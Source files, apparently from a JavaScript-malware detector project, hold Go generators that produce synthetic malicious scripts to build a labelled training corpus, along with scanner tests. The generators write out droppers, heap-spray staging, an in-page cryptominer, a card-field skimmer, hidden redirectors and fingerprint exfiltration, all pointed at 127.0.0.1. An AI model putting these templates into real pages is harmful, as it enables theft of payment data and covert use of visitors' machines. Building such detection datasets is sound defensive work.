		fmt.Fprintf(&b, "  var acc = \"\";\n")
		fmt.Fprintf(&b, "  for (var j = 0; j < arr.length; j++) {\n")
		fmt.Fprintf(&b, "    acc += String.fromCharCode(arr[j] - off);\n")
		fmt.Fprintf(&b, "  }\n")
		fmt.Fprintf(&b, "  return acc;\n")
		fmt.Fprintf(&b, "}\n")
		fmt.Fprintf(&b, "payload = dec(cs, k);\n")
	}
	switch rng.Intn(3) {
	case 0:
		fmt.Fprintf(&b, "eval(payload);\n")
	case 1:
		fmt.Fprintf(&b, "var fn = new Function(payload);\n")
		fmt.Fprintf(&b, "fn();\n")
	default:
		fmt.Fprintf(&b, "var decoded = unescape(payload);\n")
		fmt.Fprintf(&b, "eval(decoded);\n")
	}
	if rng.Intn(2) == 0 {
		fmt.Fprintf(&b, "var backup = \"%%75%%6e%%65%%73%%63\";\n")
		fmt.Fprintf(&b, "var stage2 = unescape(backup + \"%s\");\n", hexString(rng, 8))
		fmt.Fprintf(&b, "setTimeout(function() { eval(stage2); }, %d);\n", 100+rng.Intn(900))
	}
	// Environment check (anti-analysis).
	if rng.Intn(2) == 0 {
		fmt.Fprintf(&b, "if (typeof window.callPhantom === \"function\") {\n")
		fmt.Fprintf(&b, "  payload = \"\";\n")
		fmt.Fprintf(&b, "}\n")
	}
	return b.String()
}

// genDriveByStaging emits browser-exploit staging: long sprayed strings,
// version sniffing, ActiveX probing, and a shellcode-shaped byte array.
func genDriveByStaging(rng *rand.Rand) string {
	var b strings.Builder
	sprayCount := 50 + rng.Intn(200)
	fmt.Fprintf(&b, "var spray = [];\n")
	fmt.Fprintf(&b, "var block = unescape(\"%%u%s%%u%s\");\n", hexString(rng, 4), hexString(rng, 4))
	fmt.Fprintf(&b, "while (block.length < %d) { block += block; }\n", 0x1000+rng.Intn(0x4000))
	fmt.Fprintf(&b, "for (var i = 0; i < %d; i++) {\n", sprayCount)
	fmt.Fprintf(&b, "  spray[i] = block.substring(0, block.length - 1) + \"%s\";\n", hexString(rng, 4))
	fmt.Fprintf(&b, "}\n")
	fmt.Fprintf(&b, "var sc = [];\n")
	scLen := 16 + rng.Intn(48)
	fmt.Fprintf(&b, "for (var j = 0; j < %d; j++) {\n", scLen)
	fmt.Fprintf(&b, "  sc.push((j * %d + %d) & 0xff);\n", 3+rng.Intn(9), rng.Intn(256))
	fmt.Fprintf(&b, "}\n")
	fmt.Fprintf(&b, "var agent = navigator.userAgent.toLowerCase();\n")
	fmt.Fprintf(&b, "var vulnerable = agent.indexOf(\"msie %d\") >= 0;\n", 6+rng.Intn(4))
	fmt.Fprintf(&b, "if (vulnerable) {\n")
	fmt.Fprintf(&b, "  try {\n")
	fmt.Fprintf(&b, "    var ax = new ActiveXObject(\"%s.%s\");\n",
		[]string{"Msxml2", "Shell", "WScript", "Scripting"}[rng.Intn(4)],
		[]string{"XMLHTTP", "Application", "Shell", "FileSystemObject"}[rng.Intn(4)])
	fmt.Fprintf(&b, "    ax.setAttribute(\"src\", \"http://127.0.0.1/%s\");\n", hexString(rng, 12))
	fmt.Fprintf(&b, "  } catch (e) {\n")
	fmt.Fprintf(&b, "    var fallback = spray[%d];\n", rng.Intn(sprayCount))
	fmt.Fprintf(&b, "    document.write(\"<embed src='\" + fallback.length + \"'>\");\n")
	fmt.Fprintf(&b, "  }\n")
	fmt.Fprintf(&b, "}\n")
	return b.String()
}

// genCryptojacker emits an in-page miner: a hashing worker loop throttled to
// stay hidden, reporting shares to a pool.
func genCryptojacker(rng *rand.Rand) string {
	var b strings.Builder
	throttle := 10 + rng.Intn(80)
	fmt.Fprintf(&b, "var nonce = %d;\n", rng.Intn(1000000))
	fmt.Fprintf(&b, "var sharesFound = 0;\n")
	fmt.Fprintf(&b, "var target = 0x%s;\n", hexString(rng, 6))
	fmt.Fprintf(&b, "function mixHash(seed) {\n")
	fmt.Fprintf(&b, "  var h = seed | 0;\n")
	rounds := 500 + rng.Intn(2000)
	mul := []int{1103515245, 134775813, 69069, 22695477}[rng.Intn(4)]
	switch rng.Intn(3) {
	case 0:
		fmt.Fprintf(&b, "  for (var i = 0; i < %d; i++) {\n", rounds)
		fmt.Fprintf(&b, "    h = (h * %d + %d) & 0x7fffffff;\n", mul, 12345+rng.Intn(1000))
		fmt.Fprintf(&b, "    h = h ^ (h >> %d);\n", 7+rng.Intn(16))
		fmt.Fprintf(&b, "  }\n")
	case 1:
		fmt.Fprintf(&b, "  var i = %d;\n", rounds)
		fmt.Fprintf(&b, "  while (i > 0) {\n")
		fmt.Fprintf(&b, "    h = (h ^ (h << %d)) + %d & 0x7fffffff;\n", 3+rng.Intn(8), mul%100000)
		fmt.Fprintf(&b, "    i = i - 1;\n")
		fmt.Fprintf(&b, "  }\n")
	default:
		fmt.Fprintf(&b, "  var i = 0;\n")
		fmt.Fprintf(&b, "  do {\n")
		fmt.Fprintf(&b, "    h = (h * %d) %% %d + (h >> %d);\n", mul%1000, 104729+rng.Intn(10000), 5+rng.Intn(10))
		fmt.Fprintf(&b, "    i++;\n")
		fmt.Fprintf(&b, "  } while (i < %d);\n", rounds)
	}
	fmt.Fprintf(&b, "  return h;\n")
	fmt.Fprintf(&b, "}\n")
	fmt.Fprintf(&b, "function mineRound() {\n")
	fmt.Fprintf(&b, "  var start = Date.now();\n")
	fmt.Fprintf(&b, "  while (Date.now() - start < %d) {\n", throttle)
	fmt.Fprintf(&b, "    var h = mixHash(nonce);\n")
	fmt.Fprintf(&b, "    nonce++;\n")
	fmt.Fprintf(&b, "    if (h < target) {\n")
	fmt.Fprintf(&b, "      sharesFound++;\n")
	fmt.Fprintf(&b, "      submitShare(nonce, h);\n")
	fmt.Fprintf(&b, "    }\n")
	fmt.Fprintf(&b, "  }\n")
	fmt.Fprintf(&b, "  setTimeout(mineRound, %d);\n", 1+rng.Intn(20))
	fmt.Fprintf(&b, "}\n")
	fmt.Fprintf(&b, "function submitShare(n, h) {\n")
	fmt.Fprintf(&b, "  var img = new Image();\n")
	fmt.Fprintf(&b, "  img.src = \"http://127.0.0.1/pool?n=\" + n + \"&h=\" + h + \"&s=%s\";\n", hexString(rng, 8))
	fmt.Fprintf(&b, "}\n")
	if rng.Intn(2) == 0 {
		fmt.Fprintf(&b, "if (navigator.hardwareConcurrency > %d) {\n", 1+rng.Intn(4))
		fmt.Fprintf(&b, "  mineRound();\n")
		fmt.Fprintf(&b, "} else {\n")
		fmt.Fprintf(&b, "  setTimeout(mineRound, %d);\n", 5000+rng.Intn(10000))
		fmt.Fprintf(&b, "}\n")
	} else {
		fmt.Fprintf(&b, "document.addEventListener(\"visibilitychange\", function() {\n")
		fmt.Fprintf(&b, "  if (document.hidden) { mineRound(); }\n")
		fmt.Fprintf(&b, "});\n")
		fmt.Fprintf(&b, "mineRound();\n")
	}
	return b.String()
}

// genWebSkimmer emits a Magecart-style form skimmer: hooks payment fields,
// serializes values, and beacons them out.
func genWebSkimmer(rng *rand.Rand) string {
	var b strings.Builder
	exfil := fmt.Sprintf("http://127.0.0.1/%s", hexString(rng, 10))
	fields := []string{"cardnumber", "cvv", "expiry", "cardholder", "billing"}
	picked := fields[:2+rng.Intn(3)]
	fmt.Fprintf(&b, "var hooked = {};\n")
	fmt.Fprintf(&b, "var grabTargets = [")
	for i, f := range picked {
		if i > 0 {
			fmt.Fprintf(&b, ", ")
		}
		fmt.Fprintf(&b, "\"%s\"", f)
	}
	fmt.Fprintf(&b, "];\n")
	fmt.Fprintf(&b, "function grabFields() {\n")
	fmt.Fprintf(&b, "  var stolen = {};\n")
	fmt.Fprintf(&b, "  for (var i = 0; i < grabTargets.length; i++) {\n")
	fmt.Fprintf(&b, "    var el = document.querySelector(\"input[name=\" + grabTargets[i] + \"]\");\n")
	fmt.Fprintf(&b, "    if (el && el.value) { stolen[grabTargets[i]] = el.value; }\n")
	fmt.Fprintf(&b, "  }\n")
	fmt.Fprintf(&b, "  return stolen;\n")
	fmt.Fprintf(&b, "}\n")
	fmt.Fprintf(&b, "function sendLoot(data) {\n")
	fmt.Fprintf(&b, "  var enc = btoa(JSON.stringify(data));\n")
	switch rng.Intn(3) {
	case 0:
		fmt.Fprintf(&b, "  var pixel = new Image();\n")
		fmt.Fprintf(&b, "  pixel.src = \"%s?d=\" + enc;\n", exfil)
	case 1:
		fmt.Fprintf(&b, "  var xhr = new XMLHttpRequest();\n")
		fmt.Fprintf(&b, "  xhr.open(\"POST\", \"%s\", true);\n", exfil)
		fmt.Fprintf(&b, "  xhr.send(enc);\n")
	default:
		fmt.Fprintf(&b, "  var s = document.createElement(\"script\");\n")
		fmt.Fprintf(&b, "  s.src = \"%s?cb=x&d=\" + enc;\n", exfil)
		fmt.Fprintf(&b, "  document.body.appendChild(s);\n")
	}
	fmt.Fprintf(&b, "}\n")
	fmt.Fprintf(&b, "function hookCheckout() {\n")
	fmt.Fprintf(&b, "  var buttons = document.querySelectorAll(\"button, input[type=submit]\");\n")
	fmt.Fprintf(&b, "  for (var i = 0; i < buttons.length; i++) {\n")
	fmt.Fprintf(&b, "    if (hooked[i]) { continue; }\n")
	fmt.Fprintf(&b, "    hooked[i] = true;\n")
	fmt.Fprintf(&b, "    buttons[i].addEventListener(\"click\", function() {\n")
	fmt.Fprintf(&b, "      var loot = grabFields();\n")
	fmt.Fprintf(&b, "      var count = 0;\n")
	fmt.Fprintf(&b, "      for (var key in loot) { count++; }\n")
	fmt.Fprintf(&b, "      if (count > 0) { sendLoot(loot); }\n")
	fmt.Fprintf(&b, "    });\n")
	fmt.Fprintf(&b, "  }\n")
	fmt.Fprintf(&b, "}\n")
	fmt.Fprintf(&b, "setInterval(hookCheckout, %d);\n", 500+rng.Intn(2500))
	if rng.Intn(2) == 0 {
		fmt.Fprintf(&b, "window.addEventListener(\"beforeunload\", function() {\n")
		fmt.Fprintf(&b, "  var last = grabFields();\n")
		fmt.Fprintf(&b, "  sendLoot(last);\n")
		fmt.Fprintf(&b, "});\n")
	}
	return b.String()
}

// genRedirector emits hidden-iframe injection and conditional redirects.
func genRedirector(rng *rand.Rand) string {
	var b strings.Builder
	dest := fmt.Sprintf("http://127.0.0.1/%s", hexString(rng, 10))
	fmt.Fprintf(&b, "var visited = document.cookie.indexOf(\"_seen%d\") >= 0;\n", rng.Intn(100))
	fmt.Fprintf(&b, "function dropFrame() {\n")
	fmt.Fprintf(&b, "  var frame = document.createElement(\"iframe\");\n")
	fmt.Fprintf(&b, "  frame.src = \"%s\";\n", dest)
	fmt.Fprintf(&b, "  frame.width = \"%d\";\n", rng.Intn(3))
	fmt.Fprintf(&b, "  frame.height = \"%d\";\n", rng.Intn(3))
	fmt.Fprintf(&b, "  frame.style.visibility = \"hidden\";\n")
	fmt.Fprintf(&b, "  frame.style.position = \"absolute\";\n")
	fmt.Fprintf(&b, "  frame.style.left = \"-%d px\";\n", 1000+rng.Intn(9000))
	fmt.Fprintf(&b, "  document.body.appendChild(frame);\n")
	fmt.Fprintf(&b, "}\n")
	fmt.Fprintf(&b, "function maybeRedirect() {\n")
	fmt.Fprintf(&b, "  var ref = document.referrer.toLowerCase();\n")
	fmt.Fprintf(&b, "  var fromSearch = ref.indexOf(\"google\") >= 0 || ref.indexOf(\"bing\") >= 0;\n")
	fmt.Fprintf(&b, "  if (fromSearch && !visited) {\n")
	fmt.Fprintf(&b, "    document.cookie = \"_seen%d=1; path=/\";\n", rng.Intn(100))
	switch rng.Intn(3) {
	case 0:
		fmt.Fprintf(&b, "    location.href = \"%s?r=\" + encodeURIComponent(ref);\n", dest)
	case 1:
		fmt.Fprintf(&b, "    window.location.replace(\"%s\");\n", dest)
	default:
		fmt.Fprintf(&b, "    top.location = \"%s\" + \"?u=\" + escape(location.href);\n", dest)
	}
	fmt.Fprintf(&b, "  } else {\n")
	fmt.Fprintf(&b, "    dropFrame();\n")
	fmt.Fprintf(&b, "  }\n")
	fmt.Fprintf(&b, "}\n")
	if rng.Intn(2) == 0 {
		fmt.Fprintf(&b, "document.write(\"<div id='c%s'></div>\");\n", hexString(rng, 6))
		fmt.Fprintf(&b, "setTimeout(maybeRedirect, %d);\n", 200+rng.Intn(3000))
	} else {
		fmt.Fprintf(&b, "window.onload = maybeRedirect;\n")
	}
	return b.String()
}

// genFingerprintExfil emits aggressive fingerprint collection (the privacy
// threat the paper's introduction names) with exfiltration.
func genFingerprintExfil(rng *rand.Rand) string {
	var b strings.Builder
	exfil := fmt.Sprintf("http://127.0.0.1/%s", hexString(rng, 10))
	fmt.Fprintf(&b, "function collectPrint() {\n")
	fmt.Fprintf(&b, "  var fp = {};\n")
	fmt.Fprintf(&b, "  fp.ua = navigator.userAgent;\n")
	fmt.Fprintf(&b, "  fp.lang = navigator.language;\n")
	fmt.Fprintf(&b, "  fp.platform = navigator.platform;\n")
	fmt.Fprintf(&b, "  fp.screen = screen.width + \"x\" + screen.height + \"x\" + screen.colorDepth;\n")
	fmt.Fprintf(&b, "  fp.tz = new Date().getTimezoneOffset();\n")
	fmt.Fprintf(&b, "  fp.cookies = navigator.cookieEnabled;\n")
	if rng.Intn(2) == 0 {
		fmt.Fprintf(&b, "  fp.plugins = [];\n")
		fmt.Fprintf(&b, "  for (var i = 0; i < navigator.plugins.length; i++) {\n")
		fmt.Fprintf(&b, "    fp.plugins.push(navigator.plugins[i].name);\n")
		fmt.Fprintf(&b, "  }\n")
	}
	fmt.Fprintf(&b, "  var canvas = document.createElement(\"canvas\");\n")
	fmt.Fprintf(&b, "  var ctx = canvas.getContext(\"2d\");\n")
	fmt.Fprintf(&b, "  ctx.fillText(\"%s\", %d, %d);\n", hexString(rng, 8), 1+rng.Intn(20), 1+rng.Intn(20))
	fmt.Fprintf(&b, "  fp.canvas = canvas.toDataURL().slice(-%d);\n", 16+rng.Intn(48))
	fmt.Fprintf(&b, "  return fp;\n")
	fmt.Fprintf(&b, "}\n")
	fmt.Fprintf(&b, "function hashPrint(fp) {\n")
	fmt.Fprintf(&b, "  var str = JSON.stringify(fp);\n")
	fmt.Fprintf(&b, "  var h = %d;\n", rng.Intn(10000))
	fmt.Fprintf(&b, "  for (var i = 0; i < str.length; i++) {\n")
	fmt.Fprintf(&b, "    h = ((h << 5) - h + str.charCodeAt(i)) | 0;\n")
	fmt.Fprintf(&b, "  }\n")
	fmt.Fprintf(&b, "  return h;\n")
	fmt.Fprintf(&b, "}\n")
	fmt.Fprintf(&b, "var print = collectPrint();\n")
	fmt.Fprintf(&b, "var uid = hashPrint(print);\n")
	switch rng.Intn(2) {
	case 0:
		fmt.Fprintf(&b, "var beacon = new Image();\n")
		fmt.Fprintf(&b, "beacon.src = \"%s?uid=\" + uid + \"&d=\" + btoa(JSON.stringify(print));\n", exfil)
	default:
		fmt.Fprintf(&b, "var req = new XMLHttpRequest();\n")
		fmt.Fprintf(&b, "req.open(\"POST\", \"%s\", true);\n", exfil)
		fmt.Fprintf(&b, "req.send(btoa(JSON.stringify(print)) + \".\" + uid);\n")
	}
	fmt.Fprintf(&b, "document.cookie = \"_uid=\" + uid + \"; expires=Fri, 01 Jan 2100 00:00:00 GMT\";\n")
	if rng.Intn(2) == 0 {
		fmt.Fprintf(&b, "localStorage.setItem(\"_uid%d\", String(uid));\n", rng.Intn(100))
	}
	return b.String()
}
