// Package corpus generates the synthetic evaluation dataset.
//
// The paper evaluates on real corpora (Hynek Petrak's malware collection,
// GeeksOnSecurity exploit kits, VirusTotal samples; the 150k JavaScript
// Dataset and an Alexa Top-10k crawl for benign code). Those corpora are
// proprietary or unavailable offline, so this package substitutes
// deterministic generators: six benign program families mimicking the kinds
// of scripts the benign corpora contain (UI configuration, form validation,
// utility libraries, ...) and six malicious families mimicking the attack
// classes the paper's background section lists (eval-decode droppers,
// drive-by staging, cryptojacking, web skimming, redirectors, fingerprint
// exfiltration).
//
// The two populations differ in *semantics* — benign code implements
// functionality, malicious code manipulates and exfiltrates data — which is
// exactly the signal the paper's Table VII interpretability analysis finds,
// while surface details (identifiers, literals, statement order) vary per
// sample so appearance-level features are unstable.
package corpus

import (
	"fmt"
	"math/rand"

	"jsrevealer/internal/obfuscate"
)

// Sample is one labelled script.
type Sample struct {
	// Source is the JavaScript text.
	Source string
	// Malicious is the ground-truth label.
	Malicious bool
	// Family names the generator family, mirroring the paper's dataset
	// source column in Table I.
	Family string
	// Transform names the in-the-wild transformation applied at generation
	// time ("" for pristine source, "minify", "variable-obfuscation", ...).
	Transform string
}

// Config controls corpus generation.
type Config struct {
	// Benign and Malicious are the number of samples per class.
	Benign, Malicious int
	// Seed drives all randomness; a fixed seed reproduces the corpus.
	Seed int64
	// Pristine disables the in-the-wild transformation mix, producing raw
	// generator output only.
	Pristine bool
}

// DefaultConfig returns a corpus sized for the experiment harness.
func DefaultConfig() Config {
	return Config{Benign: 300, Malicious: 300, Seed: 42}
}

// generator produces one script from a seeded RNG.
type generator struct {
	family string
	fn     func(rng *rand.Rand) string
}

// Generate builds the corpus. Benign and malicious samples round-robin over
// their family generators so every family is equally represented.
//
// Unless cfg.Pristine is set, each sample then passes through the
// in-the-wild transformation mix the paper reports from Moog et al.
// (Section II-B): most benign web scripts are minified and a few apply
// variable or string obfuscation, while a quarter of malicious scripts use
// variable obfuscation, about a fifth string obfuscation, and other
// techniques appear at 5-10%. Training on this mix is what the paper's real
// corpora provide implicitly; without it a detector simply learns
// "obfuscation means malicious".
func Generate(cfg Config) []Sample {
	rng := rand.New(rand.NewSource(cfg.Seed))
	benign := benignGenerators()
	malicious := maliciousGenerators()

	out := make([]Sample, 0, cfg.Benign+cfg.Malicious)
	emit := func(g generator, malicious bool) {
		sampleRng := rand.New(rand.NewSource(rng.Int63()))
		src := g.fn(sampleRng)
		// Class-neutral filler appears on both sides of the corpus so
		// surface structure alone cannot separate the classes.
		src += fillerSnippets(sampleRng, 1+sampleRng.Intn(3))
		// Structural polymorphism: shuffle hoistable declarations and
		// sometimes wrap the program in an IIFE, the way real scripts vary.
		src = diversify(src, sampleRng)
		transform := ""
		if !cfg.Pristine {
			src, transform = wildTransform(src, malicious, sampleRng)
		}
		out = append(out, Sample{Source: src, Malicious: malicious, Family: g.family, Transform: transform})
	}
	for i := 0; i < cfg.Benign; i++ {
		emit(benign[i%len(benign)], false)
	}
	for i := 0; i < cfg.Malicious; i++ {
		emit(malicious[i%len(malicious)], true)
	}
	return out
}

// wildApply applies one named in-the-wild transformation. The styles here
// are deliberately distinct from the four evaluation obfuscators (except
// variable renaming, which every tool shares): the paper's test sets are
// re-obfuscated with specific tools precisely because the tools behind the
// obfuscation already present in the corpora are unknown.
func wildApply(name, src string, seed int64) (string, error) {
	var ob obfuscate.Obfuscator
	switch name {
	case "minify":
		ob = &obfuscate.Minifier{}
	case "variable-obfuscation":
		ob = &obfuscate.Jshaman{Seed: seed}
	case "string-obfuscation":
		ob = &obfuscate.LiteString{Seed: seed}
	case "full-obfuscation":
		// JavaScript-Obfuscator is by far the most popular tool, so the
		// "other obfuscation techniques" slice of the wild distribution is
		// dominated by its output.
		ob = &obfuscate.JavaScriptObfuscator{Seed: seed}
	case "call-obfuscation":
		ob = &obfuscate.Jfogs{Seed: seed}
	case "deep-obfuscation":
		ob = &obfuscate.JSObfu{Seed: seed, Iterations: 2}
	default:
		return src, nil
	}
	return ob.Obfuscate(src)
}

// wildTransform picks and applies the in-the-wild transformation for one
// sample according to the paper's measured distribution (Section II-B).
func wildTransform(src string, malicious bool, rng *rand.Rand) (string, string) {
	roll := rng.Float64()
	var name string
	if malicious {
		switch {
		case roll < 0.26: // 25-27% variable obfuscation
			name = "variable-obfuscation"
		case roll < 0.46: // 17-21% string obfuscation
			name = "string-obfuscation"
		case roll < 0.52: // 5-10% other techniques, mostly the popular tool
			name = "full-obfuscation"
		case roll < 0.55:
			name = "call-obfuscation"
		case roll < 0.58:
			name = "deep-obfuscation"
		case roll < 0.70: // minified droppers are common too
			name = "minify"
		default:
			return src, ""
		}
	} else {
		switch {
		case roll < 0.60: // >60% minification
			name = "minify"
		case roll < 0.66: // ~6% variable obfuscation
			name = "variable-obfuscation"
		case roll < 0.69: // ~3% string obfuscation
			name = "string-obfuscation"
		case roll < 0.71: // <3% other techniques
			name = "full-obfuscation"
		case roll < 0.72:
			name = "deep-obfuscation"
		default:
			return src, ""
		}
	}
	out, err := wildApply(name, src, rng.Int63())
	if err != nil {
		return src, ""
	}
	return out, name
}

// FamilyCounts tallies samples per family, the data for the Table I
// equivalent.
func FamilyCounts(samples []Sample) map[string]int {
	out := make(map[string]int)
	for _, s := range samples {
		out[s.Family]++
	}
	return out
}

// ---------------------------------------------------------------------------
// shared name/value helpers
// ---------------------------------------------------------------------------

var benignWords = []string{
	"options", "controls", "player", "config", "settings", "widget", "panel",
	"slider", "carousel", "menu", "form", "input", "value", "result", "items",
	"list", "index", "count", "total", "data", "element", "container",
	"handler", "callback", "state", "view", "model", "cache", "buffer",
	"offset", "length", "width", "height", "position", "duration", "volume",
	"theme", "layout", "label", "title", "content", "section", "header",
	"footer", "button", "field", "row", "column", "page", "tab",
}

var verbWords = []string{
	"init", "setup", "update", "render", "load", "save", "get", "set",
	"create", "build", "parse", "format", "validate", "check", "apply",
	"handle", "process", "compute", "toggle", "show", "hide", "bind",
	"attach", "refresh", "resize", "scroll", "animate", "filter", "sort",
}

// ident makes a camelCase identifier from the word pools.
func ident(rng *rand.Rand) string {
	v := verbWords[rng.Intn(len(verbWords))]
	n := benignWords[rng.Intn(len(benignWords))]
	return v + upperFirst(n)
}

// noun picks a plain noun identifier.
func noun(rng *rand.Rand) string {
	return benignWords[rng.Intn(len(benignWords))]
}

func upperFirst(s string) string {
	if s == "" {
		return s
	}
	return string(s[0]-'a'+'A') + s[1:]
}

// uniqueNouns returns n distinct noun identifiers.
func uniqueNouns(rng *rand.Rand, n int) []string {
	seen := make(map[string]bool, n)
	out := make([]string, 0, n)
	for len(out) < n {
		w := noun(rng)
		if seen[w] {
			w = fmt.Sprintf("%s%d", w, rng.Intn(100))
			if seen[w] {
				continue
			}
		}
		seen[w] = true
		out = append(out, w)
	}
	return out
}

// hexString returns a random lowercase hex string of length n.
func hexString(rng *rand.Rand, n int) string {
	const digits = "0123456789abcdef"
	b := make([]byte, n)
	for i := range b {
		b[i] = digits[rng.Intn(16)]
	}
	return string(b)
}
