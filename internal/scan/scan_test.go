package scan

import (
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"jsrevealer/internal/core"
	"jsrevealer/internal/corpus"
	"jsrevealer/internal/js/parser"
	"jsrevealer/internal/obs"
)

// trainedDetector builds one small shared detector for the whole package;
// training is the expensive part, so every test reuses it.
var (
	detOnce sync.Once
	detVal  *core.Detector
	detErr  error
	// detSamples holds labelled training scripts whose verdicts a
	// random-forest detector reproduces reliably.
	detSamples []core.Sample
)

func trainedDetector(t testing.TB) (*core.Detector, []core.Sample) {
	t.Helper()
	detOnce.Do(func() {
		samples := corpus.Generate(corpus.Config{Benign: 40, Malicious: 40, Seed: 11})
		detSamples = make([]core.Sample, len(samples))
		for i, s := range samples {
			detSamples[i] = core.Sample{Source: s.Source, Malicious: s.Malicious}
		}
		opts := core.DefaultOptions()
		opts.Seed = 11
		opts.Embedding.Seed = 11
		opts.Embedding.Dim = 24
		opts.Embedding.Epochs = 5
		opts.Path.MaxPaths = 400
		opts.MaxPoolPerClass = 800
		detVal, detErr = core.Train(detSamples, nil, opts)
	})
	if detErr != nil {
		t.Fatalf("Train: %v", detErr)
	}
	return detVal, detSamples
}

// slowMarker makes the wrapped classifier block until the per-file deadline
// expires, simulating a timeout-inducing sample deterministically.
const slowMarker = "/*@scan-test-slow@*/"

// markedSlow wraps a real detector: files carrying slowMarker hang until
// cancelled (as a pathological input would), everything else runs the full
// pipeline with the engine's limits.
type markedSlow struct{ det *core.Detector }

func (m *markedSlow) DetectCtx(ctx context.Context, src string) (bool, error) {
	return m.DetectWithLimits(ctx, src, parser.Limits{})
}

func (m *markedSlow) DetectWithLimits(ctx context.Context, src string, lim parser.Limits) (bool, error) {
	if strings.Contains(src, slowMarker) {
		<-ctx.Done()
		return false, ctx.Err()
	}
	return m.det.DetectWithLimits(ctx, src, lim)
}

// TestScanPathologicalDirectory is the acceptance scenario: one directory
// holding healthy files, a crash-inducing deeply nested file, an oversized
// file, and a timeout-inducing file. The scan must complete with correct
// verdicts for the healthy files and structured Degraded results for the
// pathological ones.
func TestScanPathologicalDirectory(t *testing.T) {
	det, samples := trainedDetector(t)
	dir := t.TempDir()

	// Healthy files: training scripts the random forest reproduces.
	wantHealthy := map[string]bool{}
	healthy := 0
	for _, s := range samples {
		name := fmt.Sprintf("healthy-%d.js", healthy)
		if err := os.WriteFile(filepath.Join(dir, name), []byte(s.Source), 0o644); err != nil {
			t.Fatal(err)
		}
		wantHealthy[filepath.Join(dir, name)] = s.Malicious
		healthy++
		if healthy == 6 {
			break
		}
	}

	// Crash-inducing: 60k-deep nested parentheses would overflow the stack
	// without the parser depth guard.
	deep := filepath.Join(dir, "deep.js")
	if err := os.WriteFile(deep,
		[]byte("var x = "+strings.Repeat("(", 60000)+"1"+strings.Repeat(")", 60000)+";"), 0o644); err != nil {
		t.Fatal(err)
	}

	// Oversized: beyond the engine's MaxBytes (but parseable, so only the
	// size guard degrades it).
	big := filepath.Join(dir, "big.js")
	if err := os.WriteFile(big,
		[]byte("var filler = 0;\n"+strings.Repeat("filler = filler + 1;\n", 20000)), 0o644); err != nil {
		t.Fatal(err)
	}
	// deep.js is ~120KB and big.js ~420KB: the 256KB cap catches only the
	// latter, so the depth guard (not the size guard) degrades deep.js.

	// Timeout-inducing: the marker makes the classifier hang until the
	// per-file deadline fires.
	slow := filepath.Join(dir, "slow.js")
	if err := os.WriteFile(slow, []byte(slowMarker+"\nvar a = 1;"), 0o644); err != nil {
		t.Fatal(err)
	}

	eng := New(&markedSlow{det: det}, Config{
		Workers:  4,
		Timeout:  time.Second,
		MaxBytes: 256 << 10,
	})
	results, stats, err := eng.ScanDir(context.Background(), dir)
	if err != nil {
		t.Fatalf("ScanDir: %v", err)
	}
	if stats.Scanned != healthy+3 {
		t.Fatalf("scanned %d files, want %d", stats.Scanned, healthy+3)
	}

	byPath := map[string]Result{}
	for _, r := range results {
		byPath[r.Path] = r
	}
	for path, wantMal := range wantHealthy {
		r := byPath[path]
		if r.Err != nil {
			t.Errorf("%s: unexpected error %v", path, r.Err)
		}
		if r.Malicious != wantMal {
			t.Errorf("%s: verdict %v, want malicious=%v", path, r.Verdict, wantMal)
		}
	}
	for path, wantErr := range map[string]error{
		deep: ErrDepthLimit,
		big:  ErrTooLarge,
		slow: ErrTimeout,
	} {
		r := byPath[path]
		if r.Verdict != VerdictDegraded {
			t.Errorf("%s: verdict %v, want DEGRADED (err %v)", path, r.Verdict, r.Err)
		}
		if !errors.Is(r.Err, wantErr) {
			t.Errorf("%s: error %v, want %v", path, r.Err, wantErr)
		}
	}
	if stats.Degraded != 3 {
		t.Errorf("stats.Degraded = %d, want 3", stats.Degraded)
	}
	if stats.Failed != 0 {
		t.Errorf("stats.Failed = %d, want 0", stats.Failed)
	}
	if stats.P50 > stats.P99 {
		t.Errorf("latency percentiles inverted: p50=%v p99=%v", stats.P50, stats.P99)
	}
}

func TestPanicIsolation(t *testing.T) {
	boom := ClassifierFunc(func(ctx context.Context, src string) (bool, error) {
		panic("pipeline exploded")
	})

	eng := New(boom, Config{Workers: 2})
	res := eng.ScanSource(context.Background(), "boom.js", "var a = 1;")
	if res.Verdict != VerdictDegraded {
		t.Fatalf("verdict %v, want DEGRADED", res.Verdict)
	}
	if !errors.Is(res.Err, ErrInternal) {
		t.Fatalf("error %v, want ErrInternal", res.Err)
	}

	// With the fallback disabled the panic surfaces as a Failed result —
	// still never as a crash.
	eng = New(boom, Config{NoFallback: true})
	res = eng.ScanSource(context.Background(), "boom.js", "var a = 1;")
	if res.Verdict != VerdictFailed || !errors.Is(res.Err, ErrInternal) {
		t.Fatalf("verdict %v err %v, want FAILED/ErrInternal", res.Verdict, res.Err)
	}
}

func TestParseFailureDegrades(t *testing.T) {
	det, _ := trainedDetector(t)
	eng := New(det, Config{})

	res := eng.ScanSource(context.Background(), "broken.js", "var = = ;;;(")
	if res.Verdict != VerdictDegraded {
		t.Fatalf("verdict %v, want DEGRADED", res.Verdict)
	}
	if !errors.Is(res.Err, ErrParse) {
		t.Fatalf("error %v, want ErrParse", res.Err)
	}
}

func TestTokenLimitMapsToTooLarge(t *testing.T) {
	det, _ := trainedDetector(t)
	eng := New(det, Config{MaxTokens: 64})
	res := eng.ScanSource(context.Background(), "many.js",
		strings.Repeat("var a = 1;\n", 100))
	if res.Verdict != VerdictDegraded || !errors.Is(res.Err, ErrTooLarge) {
		t.Fatalf("verdict %v err %v, want DEGRADED/ErrTooLarge", res.Verdict, res.Err)
	}
}

func TestScanDirAggregatesUnreadableEntries(t *testing.T) {
	det, _ := trainedDetector(t)
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "ok.js"), []byte("var a = 1;"), 0o644); err != nil {
		t.Fatal(err)
	}
	// A dangling symlink is unreadable on every platform and for every
	// privilege level; the walk must aggregate it, not abort.
	if err := os.Symlink(filepath.Join(dir, "missing-target"), filepath.Join(dir, "dangling.js")); err != nil {
		t.Skipf("symlink unsupported: %v", err)
	}

	eng := New(det, Config{})
	results, stats, err := eng.ScanDir(context.Background(), dir)
	if err != nil {
		t.Fatalf("ScanDir: %v", err)
	}
	if stats.Scanned != 2 {
		t.Fatalf("scanned %d, want 2", stats.Scanned)
	}
	if stats.Failed != 1 {
		t.Fatalf("failed %d, want 1 (dangling symlink)", stats.Failed)
	}
	for _, r := range results {
		if strings.HasSuffix(r.Path, "dangling.js") {
